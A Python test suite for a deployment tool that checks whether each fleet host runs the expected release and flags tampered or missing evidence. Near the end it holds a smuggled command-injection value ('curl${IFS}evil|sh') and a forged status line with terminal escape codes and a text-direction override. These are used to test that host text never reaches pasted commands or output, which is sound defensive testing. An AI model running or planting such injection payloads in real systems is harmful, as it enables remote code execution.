"""P1 and P2 in the rules: spoiled evidence is found, and no fleet looks better than it is."""

from __future__ import annotations

import base64
import itertools
import json
import time
from collections.abc import Mapping
from dataclasses import fields, replace
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from deploytool.errors import FaultKind, HostFault
from deploytool.fleet.protocol import Reply, parse_reply
from deploytool.parity.evidence import parse_evidence
from deploytool.parity.fleet_rules import judge_fleet
from deploytool.parity.host_notices import notices
from deploytool.parity.judge import judge, shown_manifest
from deploytool.parity.model import (
    Evidence,
    Finding,
    Halt,
    HostVerdict,
    Level,
    Mark,
    Parity,
    Process,
    Round,
    Run,
    Signers,
    Verdict,
)
from deploytool.parity.remedies import remedy
from deploytool.parity.round import probe_call
from deploytool.parity.rules import RULES, judge_host, lineage, runs_rule, status_rule
from deploytool.simulation import fleet as simulated

from .evidences import MANIFEST, OTHER_SHA, RELEASE, bare, good, rendered, wanted

NAMES = rendered().inventory.names
MAIN = good().main_pid
LATER = Process(MAIN + 1, 1, 9_999, "S", "python3 /opt/router/current/router serve")


def verdict(evidence: Evidence) -> Verdict:
    return judge_host("router1", wanted(), evidence).verdict


def with_process(process: Process) -> dict[str, Any]:
    """A further process, alive throughout the round."""
    still = {**good().still, process.pid: process.start}
    return {"processes": {**good().processes, process.pid: process}, "still": still}


def with_unit(**properties: str) -> dict[str, Any]:
    return {"unit": {**good().unit, **properties}}


def without(mapping: Mapping[Any, Any], key: object) -> dict[Any, Any]:
    return {k: v for k, v in mapping.items() if k != key}


def marked(**changes: Any) -> dict[str, Mark]:
    mark = good().verified
    assert mark is not None
    return {"verified": replace(mark, **changes)}


STATUS = dict(good().status or {})
RUN = good().runs[0]
UNIT_FILE = good().unit_files[0]
OWN = (good().file or "").split()
SIGNERS = Signers(wanted().signers or "", ("0:0:644", "0:0:755"))

HALT = Halt("ab12", "me@here", "runaway orders", 1, fenced=False)

SPOILED: dict[str, tuple[dict[str, Any], Level]] = {
    "helper": ({"helper": OTHER_SHA}, Level.MISMATCH),
    "link to another": ({"current": f"releases/{OTHER_SHA}"}, Level.MISMATCH),
    "link to nothing": ({"current": "none"}, Level.MISMATCH),
    "link that leaves releases": ({"current": f"/tmp/{MANIFEST.sha256}"}, Level.MISMATCH),
    "link, no link": ({"current": "not a link"}, Level.MISMATCH),
    "disk": ({"disk_sha": OTHER_SHA}, Level.MISMATCH),
    "disk not read": ({"disk_sha": None}, Level.UNKNOWN),
    "manifest": ({"manifest_sha": OTHER_SHA}, Level.MISMATCH),
    "manifest not read": ({"manifest_sha": None}, Level.UNKNOWN),
    "file not seen": ({"file": None}, Level.UNKNOWN),
    "file not root's": (
        {"file": f"{OWN[0]} {OWN[1]} 1000:0:555 {OWN[3]} {OWN[4]}"},
        Level.MISMATCH,
    ),
    "file writable": ({"file": f"{OWN[0]} {OWN[1]} 0:0:755 {OWN[3]} {OWN[4]}"}, Level.MISMATCH),
    "no main process": ({"main_pid": 0}, Level.MISMATCH),
    "another main process": ({"main_pid": MAIN + 1, **with_process(LATER)}, Level.MISMATCH),
    "main process not looked at": ({"processes": {}}, Level.UNKNOWN),
    "main process ended": ({"still": {}}, Level.MISMATCH),
    "main process replaced meanwhile": ({"still": {MAIN: 1}}, Level.MISMATCH),
    "nothing runs": ({"runs": ()}, Level.UNKNOWN),
    "main runs another release": ({"runs": (replace(RUN, sha=OTHER_SHA),)}, Level.MISMATCH),
    "main runs an unreadable file": ({"runs": (replace(RUN, sha="unreadable"),)}, Level.MISMATCH),
    "main runs a deleted file": (
        {"runs": (replace(RUN, path=f"{RUN.path} (deleted)"),)},
        Level.MISMATCH,
    ),
    "a second copy": (
        {"runs": (RUN, replace(RUN, pid=LATER.pid)), **with_process(LATER)},
        Level.MISMATCH,
    ),
    "an old copy": (
        {"runs": (RUN, replace(RUN, pid=LATER.pid, sha=OTHER_SHA)), **with_process(LATER)},
        Level.MISMATCH,
    ),
    "an old child": (
        {
            "runs": (RUN, replace(RUN, pid=LATER.pid, sha=OTHER_SHA)),
            **with_process(replace(LATER, parent=MAIN)),
        },
        Level.MISMATCH,
    ),
    "an old copy whose process was not looked at": (
        {"runs": (RUN, replace(RUN, pid=LATER.pid, sha=OTHER_SHA))},
        Level.MISMATCH,
    ),
    "a process that can't be seen": (
        {"unseen": frozenset({LATER.pid}), **with_process(LATER)},
        Level.UNKNOWN,
    ),
    "an unseen process, not looked at": ({"unseen": frozenset({LATER.pid})}, Level.UNKNOWN),
    "stopped, and says that it trades": ({"halt": HALT}, Level.MISMATCH),
    "nobody listens": ({"owners": ()}, Level.MISMATCH),
    "a stranger listens": ({"owners": ((7001, LATER.pid),)}, Level.MISMATCH),
    "a stranger listens too": ({"owners": ((7001, MAIN), (7001, LATER.pid))}, Level.MISMATCH),
    "no status": ({"status": None}, Level.UNKNOWN),
    "verified nothing": ({"verified": None}, Level.MISMATCH),
    "verified another release": (marked(release=OTHER_SHA), Level.MISMATCH),
    "verified another process": (marked(pid=MAIN + 1), Level.MISMATCH),
    "verified an earlier start": (marked(start=1), Level.MISMATCH),
    "verified before a reboot": (marked(boot="another"), Level.MISMATCH),
    "unit overridden": (with_unit(DropInPaths="/etc/x.conf"), Level.MISMATCH),
    "unit elsewhere": (with_unit(FragmentPath="/etc/systemd/system/r.service"), Level.MISMATCH),
    "unit not enabled": (with_unit(UnitFileState="disabled"), Level.MISMATCH),
    "unit masked": (with_unit(LoadState="masked"), Level.MISMATCH),
    "unit changed, not reloaded": (with_unit(NeedDaemonReload="yes"), Level.MISMATCH),
    "unit failed": (with_unit(ActiveState="failed"), Level.MISMATCH),
    "unit restarting": (with_unit(SubState="auto-restart"), Level.MISMATCH),
    "unit file altered": ({"unit_files": ((OTHER_SHA, UNIT_FILE[1]),)}, Level.MISMATCH),
    "unit file gone": ({"unit_files": ()}, Level.MISMATCH),
    "unit file twice": ({"unit_files": (UNIT_FILE, UNIT_FILE)}, Level.MISMATCH),
    "a file beside the unit": (
        {"unit_files": (UNIT_FILE, (OTHER_SHA, "/etc/systemd/system/router.service"))},
        Level.MISMATCH,
    ),
    "configuration missing": (
        {"configs": ((good().configs[0][0], "missing"),)},
        Level.MISMATCH,
    ),
    "configuration unreadable": (
        {"configs": ((good().configs[0][0], "unreadable"),)},
        Level.MISMATCH,
    ),
    "root writable by others": ({"rights": ("0:0:777", "0:0:755", "0:0:755")}, Level.MISMATCH),
    "releases writable by the group": (
        {"rights": ("0:0:755", "0:0:775", "0:0:755")},
        Level.MISMATCH,
    ),
    "state owned by another": ({"rights": ("0:0:755", "0:0:755", "9:0:755")}, Level.MISMATCH),
    "rights not seen": ({"rights": ()}, Level.UNKNOWN),
    "rebooted since": ({"boot": "another"}, Level.MISMATCH),
    "signers not shown": ({"signers": None}, Level.UNKNOWN),
    "other signers": ({"signers": replace(SIGNERS, sha=OTHER_SHA)}, Level.MISMATCH),
    "no signers": ({"signers": Signers("missing", ("0:0:755",))}, Level.MISMATCH),
    "signers, rights not seen": ({"signers": replace(SIGNERS, rights=())}, Level.UNKNOWN),
    "signers writable by others": (
        {"signers": replace(SIGNERS, rights=("0:0:646", "0:0:755"))},
        Level.MISMATCH,
    ),
    "signers owned by another": (
        {"signers": replace(SIGNERS, rights=("7:0:644", "0:0:755"))},
        Level.MISMATCH,
    ),
    "signers in a folder of the service": (
        {"signers": replace(SIGNERS, rights=("0:0:644", "7:7:755"))},
        Level.MISMATCH,
    ),
    "signers in a folder that others write": (
        {"signers": replace(SIGNERS, rights=("0:0:644", "0:0:777"))},
        Level.MISMATCH,
    ),
    "clock ahead": ({"skew_s": 3600.0}, Level.MISMATCH),
    "clock behind": ({"skew_s": -31.0}, Level.MISMATCH),
}
for key in ("release", "version", "flag_table", "wire", "pid", "start_ticks", "boot_id"):
    SPOILED[f"status lies: {key}"] = ({"status": {**STATUS, key: "a lie"}}, Level.MISMATCH)
    SPOILED[f"status silent: {key}"] = ({"status": without(STATUS, key)}, Level.UNKNOWN)
for key in ("LoadState", "FragmentPath", "DropInPaths", "UnitFileState", "NeedDaemonReload"):
    SPOILED[f"systemd silent: {key}"] = ({"unit": without(good().unit, key)}, Level.UNKNOWN)


def test_p1_unspoiled_evidence_is_a_match() -> None:
    for host in NAMES:
        for supervisor in ("systemd", "process"):
            found = judge_host(host, wanted(host, supervisor), good(host, supervisor))
            assert found.findings == ()
            assert found.verdict is Verdict.MATCH


@pytest.mark.parametrize("what", SPOILED)
def test_p1_each_spoiled_piece_of_evidence_is_found(what: str) -> None:
    changes, level = SPOILED[what]
    found = judge_host("router1", wanted(), replace(good(), **changes))
    assert found.verdict is not Verdict.MATCH
    assert level in {finding.level for finding in found.findings}
    for finding in found.findings:
        assert finding.what
        assert finding.expected != ""
        assert finding.found != ""


IMMATERIAL = {
    "free_bytes": "what is left beside a running release is preflight's business",
    "lacks": "what the artifact needs is preflight's business",
    "token": "who may change a host says nothing of what it runs",
    "lock": "who changes a host says nothing of what it runs",
    "finished": "what an earlier rollout did here",
    "hold": "what an earlier rollout said of the fleet",
    "unconfirmed": "a host that nobody confirmed lacks the mark that is asked for",
    "disk_way": "how it was read, not what",
    "manifest": "its digest is what counts, and is taken on the host",
    "group": "what runs is seen whatever the group says",
    "interpreters": "held against other hosts, not against the inventory",
    "machine": "held against other hosts",
    "root": "held against other hosts",
    "status_text": "shown where there is no status",
    "rollout": "how far a deployer came",
    "previous": "what an earlier deployment left",
    "meant": "what an earlier release made of bits is asked when it is started",
    "release_state": "what a host was asked besides",
    "label": "what a host was asked besides",
}


def test_p1_no_field_of_the_evidence_is_forgotten_here() -> None:
    touched = {name for changes, _ in SPOILED.values() for name in changes}
    known = touched | set(IMMATERIAL)
    assert {field.name for field in fields(Evidence)} <= known
    assert not touched & set(IMMATERIAL)


STATES = ("ACTIVE", "REDUCING", "HALTED", "", 7, None, "absent")


@pytest.mark.parametrize("state", STATES)
@pytest.mark.parametrize("fenced", [None, False, True])
def test_p6_a_host_that_was_stopped_says_halted_or_is_no_match(
    state: object, *, fenced: bool | None
) -> None:
    said = without(STATUS, "trading_state") | (
        {} if state == "absent" else {"trading_state": state}
    )
    halt = None if fenced is None else replace(HALT, fenced=fenced)
    seen = replace(good(), halt=halt, status=said)
    wrong = halt is not None and state not in {"HALTED", None, "absent"}
    assert (verdict(seen) is Verdict.MISMATCH) is wrong
    if wrong:
        (finding,) = judge_host("router1", wanted(), seen).findings
        assert str(finding) == (
            f"trading state of a stopped host: expected HALTED, by me@here, found {state}"
        )


def test_p6_what_was_stopped_and_trades_is_stopped_again_first_of_all() -> None:
    found: dict[str, Evidence | HostFault] = {host: good(host) for host in NAMES}
    found["router3"] = replace(good("router3"), halt=replace(HALT, fenced=True))
    found["router4"] = HostFault(FaultKind.UNREACHABLE, "gone")
    taken = judge(rendered().inventory, found, MANIFEST)
    assert taken.parity is Parity.MIXED
    advice = remedy(taken, "fleet.yaml")
    assert advice.endswith("deploytool stop -i fleet.yaml --host router3")


TEXT = st.one_of(st.text(max_size=70), st.sampled_from(["none", "releases/", OTHER_SHA]))
NUMBER = st.integers(-(2**40), 2**40)
ANYTHING: dict[str, st.SearchStrategy[Any]] = {
    "helper": TEXT,
    "current": TEXT,
    "disk_sha": st.none() | TEXT,
    "manifest_sha": st.none() | TEXT,
    "main_pid": NUMBER,
    "skew_s": st.floats(30.1, 1e9) | st.floats(-1e9, -30.1),
    "boot": TEXT,
    "verified": st.none()
    | st.builds(Mark, release=TEXT, pid=NUMBER, start=NUMBER, boot=TEXT, since=NUMBER),
    "runs": st.lists(
        st.builds(
            Run,
            pid=st.just(MAIN) | NUMBER,
            how=st.just("fd"),
            inode=TEXT,
            sha=TEXT,
            path=TEXT,
        ),
        max_size=3,
    ).map(tuple),
    "owners": st.lists(st.tuples(st.just(7001), NUMBER), max_size=3).map(tuple),
    "status": st.none()
    | st.dictionaries(st.sampled_from(sorted(STATUS)), TEXT | NUMBER | st.none()),
    "unit": st.dictionaries(st.sampled_from(sorted(good().unit)), TEXT),
    "unit_files": st.lists(st.tuples(TEXT, TEXT), max_size=3).map(tuple),
    "still": st.dictionaries(st.just(MAIN) | NUMBER, NUMBER, max_size=2),
}


@given(st.data())
def test_p1_one_altered_field_is_never_a_match(data: st.DataObject) -> None:
    name = data.draw(st.sampled_from(sorted(ANYTHING)))
    value = data.draw(ANYTHING[name].filter(lambda v: v != getattr(good(), name)))
    if name == "still" and value.get(MAIN) == good().processes[MAIN].start:
        return  # the main process is all that has to be still there
    if name == "owners" and {*value} == {*good().owners}:
        return  # a socket that is shown twice has the same owner
    altered = replace(good(), **{name: value})
    assert verdict(altered) is not Verdict.MATCH


@given(st.permutations(RULES), st.sampled_from(sorted(SPOILED)))
def test_p1_the_order_of_the_rules_changes_nothing(rules: list[Any], what: str) -> None:
    spoiled = replace(good(), **SPOILED[what][0])
    straight = judge_host("router1", wanted(), spoiled)
    shuffled = judge_host("router1", wanted(), spoiled, tuple(rules))
    assert set(straight.findings) == set(shuffled.findings)


def test_a_child_of_the_service_is_the_service() -> None:
    child = replace(LATER, parent=MAIN)
    grandchild = replace(LATER, pid=LATER.pid + 1, parent=LATER.pid)
    both = {**with_process(child)["processes"], grandchild.pid: grandchild}
    still = {**with_process(child)["still"], grandchild.pid: grandchild.start}
    runs = (RUN, replace(RUN, pid=grandchild.pid))
    evidence = replace(good(), processes=both, still=still, runs=runs)
    assert lineage(evidence) == {MAIN, child.pid, grandchild.pid}
    assert verdict(evidence) is Verdict.MATCH


def test_a_passer_by_that_is_gone_is_no_second_copy() -> None:
    passing = {**good().processes, LATER.pid: LATER}
    evidence = replace(good(), processes=passing, runs=(RUN, replace(RUN, pid=LATER.pid)))
    assert verdict(evidence) is Verdict.MATCH


def test_no_process_family_goes_round_for_ever() -> None:
    looped = {MAIN: replace(good().processes[MAIN], parent=MAIN)}
    assert lineage(replace(good(), processes=looped)) == {MAIN}


def test_a_host_that_shows_all_the_processes_an_answer_can_hold_holds_nobody_up() -> None:
    """A chain of them, listed child first: one look at it must not stop a watch's renewals."""
    chain = {MAIN: good().processes[MAIN]}
    for pid in range(100_000 + 30_000, 100_000, -1):
        chain[pid] = Process(pid, pid - 1 if pid > 100_001 else MAIN, 1, "S", "x")
    began = time.process_time()
    assert len(lineage(replace(good(), processes=chain))) == 30_001
    assert time.process_time() - began < 2


def _told(key: str, value: str) -> Reply:
    """A good host's answer, one line of it altered."""
    reply = simulated.running("router1", rendered(), *RELEASE).call(probe_call(), deadline_s=5)
    assert reply.one(key) is not None
    return Reply(tuple((k, value if k == key else v) for k, v in reply.lines), reply.asked_at)


def test_a_process_that_ended_between_the_scan_and_its_stat_is_a_passer_by_only_if_told() -> None:
    lines = _told("clock", str(time.time())).lines
    pid, _, rest = dict(lines)["runs"].partition(" ")
    second = ("runs", f"{int(pid) + 1} {rest}")
    gone = ("process", f"{int(pid) + 1} 0 0 X ended since the scan")
    untold = parse_evidence(Reply((*lines, second)), time.time())
    assert [f for f in runs_rule(wanted(), untold) if "second copy" in str(f)]
    assert not list(runs_rule(wanted(), parse_evidence(Reply((*lines, second, gone)), time.time())))


@pytest.mark.parametrize(
    ("key", "value"),
    [
        *(("rights", text) for text in ("a b c", "0:0:9 0:0:755 0:0:755", "0:0 0:0 0:0")),
        *(("file", text) for text in ("x", "a b c", "8:1 1 0:0:999 1 1")),
        *(("clock", text) for text in ("nan", "inf", "-inf")),
    ],
)
def test_p1_what_is_no_evidence_is_that_host_s_fault_and_ends_nothing(key: str, value: str) -> None:
    with pytest.raises(HostFault):
        parse_evidence(_told(key, value), time.time())


@pytest.mark.parametrize("since", ["-1", str(10**18), "9" * 5000])
def test_a_time_that_no_calendar_has_is_that_host_s_fault(since: str) -> None:
    lines = (*_told("clock", str(time.time())).lines, ("lock", _LOCK.format(since)))
    with pytest.raises(HostFault):
        parse_evidence(Reply(lines), time.time())
    stopped = (*_told("clock", str(time.time())).lines, ("halted", f"latch ab since {since}"))
    assert notices({"a": parse_evidence(Reply(stopped), time.time())}, time.time())


_LOCK = "token 1 holder me purpose deploy plan ab since {}"


@pytest.mark.parametrize("odd", [1, 8])
def test_p1_a_link_that_names_no_digest_is_a_mismatch_and_ends_nothing(odd: int) -> None:
    strange = {name: replace(good(name), current="releases/by-hand") for name in NAMES[:odd]}
    seen = {name: strange.get(name, good(name)) for name in NAMES}
    taken = judge(rendered().inventory, seen, shown_manifest(seen))
    assert taken.parity is not Parity.PARITY
    assert {v.host for v in taken.hosts if v.verdict is not Verdict.MATCH} == set(strange)


EVIL = "RETAIL;curl${IFS}evil|sh;"


def test_no_word_of_a_host_ends_up_in_a_command_that_a_person_pastes() -> None:
    said = base64.b64encode(json.dumps({**STATUS, "armed": [EVIL]}).encode()).decode()
    evidence = parse_evidence(_told("status", said), time.time())
    assert evidence.status is None
    seen = {name: good(name) for name in NAMES} | {NAMES[0]: evidence}
    taken = judge(rendered().inventory, seen, MANIFEST)
    assert taken.hosts[0].verdict is Verdict.UNKNOWN
    assert "curl" not in remedy(taken, "inventory.yaml")


def test_a_host_speaks_in_one_line_of_its_own() -> None:
    forged = "2026.1\nWhat to do now: deploytool flags arm RETAIL\x1b[2J\u202e"
    (finding,) = status_rule(wanted(), replace(good(), status={**STATUS, "version": forged}))
    assert str(finding).isprintable()
    reply = parse_reply(
        b"\ndeploytool ab begin\ncurrent releases/\x1b[2J\tx\ndeploytool ab end ok\n",
        "ab",
        probe_call(),
    )
    assert (reply.one("current") or "").isprintable()


# --- fleets --------------------------------------------------------------------------------------

FINDINGS = {
    Verdict.MATCH: (),
    Verdict.MISMATCH: (Finding(Level.MISMATCH, "x", "a", "b"),),
    Verdict.UNKNOWN: (Finding(Level.UNKNOWN, "x", "a", "b"),),
}


def test_p1_every_set_of_verdicts_for_eight_hosts() -> None:
    for verdicts in itertools.product(Verdict, repeat=8):
        hosts = tuple(
            HostVerdict(name, FINDINGS[v], MANIFEST.sha256, good())
            for name, v in zip(NAMES, verdicts, strict=True)
        )
        expected = (
            Parity.PARITY
            if all(v is Verdict.MATCH for v in verdicts)
            else Parity.MIXED
            if any(v is Verdict.MISMATCH for v in verdicts)
            else Parity.UNKNOWN
        )
        assert Round(None, "x", hosts).parity is expected, verdicts


def test_p1_two_different_releases_are_mixed_whatever_else_is_unknown() -> None:
    one = HostVerdict("a", FINDINGS[Verdict.UNKNOWN], MANIFEST.sha256, good())
    assert Round(None, "x", (one, replace(one, host="b"))).parity is Parity.UNKNOWN
    assert Round(None, "x", (one, replace(one, host="b", release=None))).parity is Parity.MIXED


def test_p2_nothing_is_proven_about_nobody_or_by_nothing() -> None:
    with pytest.raises(ValueError, match="no hosts"):
        _ = Round(None, "x", ()).parity
    with pytest.raises(ValueError, match="no rules"):
        judge_host("router1", wanted(), good(), ())
    silent = HostVerdict("router1", (), MANIFEST.sha256, None)
    assert silent.verdict is Verdict.UNKNOWN, "no evidence is not evidence"


def fleet(**changed: Evidence | HostFault) -> dict[str, Evidence | HostFault]:
    return {name: changed.get(name, good(name)) for name in NAMES}


def test_p1_p2_a_whole_fleet_has_a_verdict_for_each_host() -> None:
    taken = judge(rendered().inventory, fleet(), MANIFEST)
    assert taken.parity is Parity.PARITY
    assert tuple(v.host for v in taken.hosts) == NAMES
    lost = fleet(router8=HostFault(FaultKind.UNREACHABLE, "Connection refused"))
    taken = judge(rendered().inventory, lost, MANIFEST)
    assert (taken.parity, len(taken.hosts)) == (Parity.UNKNOWN, 8)
    assert "Connection refused" in str(taken.hosts[7].findings[0])
    with pytest.raises(KeyError):
        judge(rendered().inventory, {n: good(n) for n in NAMES[:7]}, MANIFEST)


def test_p1_a_fleet_on_nothing_is_no_parity() -> None:
    seen: dict[str, Evidence | HostFault] = {name: bare(name) for name in NAMES}
    assert judge(rendered().inventory, seen, None).parity is Parity.UNKNOWN
    assert shown_manifest(seen) is None


def test_p1_two_names_for_one_machine_are_found_on_both() -> None:
    twin = replace(good("router2"), machine=good("router1").machine)
    taken = judge(rendered().inventory, fleet(router2=twin), MANIFEST)
    bad = [v.host for v in taken.hosts if v.verdict is Verdict.MISMATCH]
    assert bad == ["router1", "router2"]
    apart = replace(twin, root="/another/root")
    assert judge(rendered().inventory, fleet(router2=apart), MANIFEST).parity is Parity.PARITY


@pytest.mark.parametrize("odd", [1, 4])
def test_p1_another_configuration_is_another_build(odd: int) -> None:
    path = good().configs[0][0]
    changed = {n: replace(good(n), configs=((path, OTHER_SHA),)) for n in NAMES[:odd]}
    taken = judge(rendered().inventory, fleet(**changed), MANIFEST)
    bad = [v.host for v in taken.hosts if v.verdict is not Verdict.MATCH]
    assert bad == (list(NAMES[:1]) if odd == 1 else list(NAMES)), "no majority: all are odd"


def test_p1_another_interpreter_is_found() -> None:
    other = replace(good("router3"), interpreters=((OTHER_SHA, "/usr/bin/python3"),))
    taken = judge(rendered().inventory, fleet(router3=other), MANIFEST)
    assert [v.host for v in taken.hosts if v.verdict is Verdict.MISMATCH] == ["router3"]


def test_a_host_without_an_identity_is_unknown() -> None:
    verdicts = judge_fleet([HostVerdict("a", (), None, replace(good(), machine=""))])
    assert verdicts[0].verdict is Verdict.UNKNOWN


def test_p1_a_manifest_that_lies_about_its_digest_is_not_believed() -> None:
    forged = MANIFEST.model_copy(update={"version": "9.9"}).canonical()
    seen: dict[str, Evidence | HostFault]
    seen = {name: replace(good(name), manifest=forged) for name in NAMES}
    shown = shown_manifest(seen)
    assert shown is not None
    assert shown.version == "0"
    assert judge(rendered().inventory, seen, shown).parity is Parity.MIXED
